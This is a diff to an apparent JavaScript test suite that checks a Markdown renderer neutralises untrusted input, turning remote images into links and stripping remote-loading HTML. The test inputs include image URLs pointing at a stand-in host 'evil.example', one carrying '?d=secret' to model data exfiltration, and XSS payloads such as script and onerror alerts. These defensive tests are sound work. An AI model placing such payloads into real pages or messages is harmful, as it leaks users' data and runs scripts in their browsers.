@@ -12,6 +12,30 @@ describe("untrusted Markdown", () => {
   });
 
   it.each([
+    "![Our shop](https://evil.example/a.png?d=secret)",
+    "[![Our shop](https://evil.example/a.png)](https://evil.example)",
+    "![Our shop][1]\n\n[1]: https://evil.example/a.png",
+  ])("makes a link of the picture in %j", async (source) => {
+    const box = document.createElement("div");
+    box.innerHTML = await renderMarkdown(source);
+    expect(box.querySelector("img,[src]")).toBeNull();
+    const links = [...box.querySelectorAll("a")].map(({ href, text }) => [
+      text,
+      new URL(href).host,
+    ]);
+    expect(links).toContainEqual(["Our shop", "evil.example"]);
+  });
+
+  it.each([
+    '<img src="https://evil.example/a.png">',
+    '<video poster="https://evil.example/a.png"></video>',
+    '<table background="https://evil.example/a.png"><tr><td>1</td></tr></table>',
+    "<p style='background:url(https://evil.example/a.png)'>x</p>",
+  ])("loads nothing for %s", async (source) => {
+    expect(await renderMarkdown(source)).not.toContain("evil.example");
+  });
+
+  it.each([
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
     "[x](javascript:alert(1))",
